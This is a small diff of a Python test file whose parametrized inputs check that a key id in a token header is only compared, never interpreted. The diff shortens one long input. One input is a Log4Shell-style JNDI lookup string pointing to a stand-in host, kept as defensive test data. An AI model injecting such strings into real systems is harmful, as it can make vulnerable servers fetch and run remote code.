@@ -162,7 +162,7 @@ def test_a_key_in_the_header_is_not_used() -> None:
         "${jndi:ldap://evil.example}",
         "__class__",
         "é\u0301",
-        "x" * 4000,
+        "x" * 500,
     ],
 )
 def test_a_kid_is_compared_and_nothing_else(kid: str) -> None:
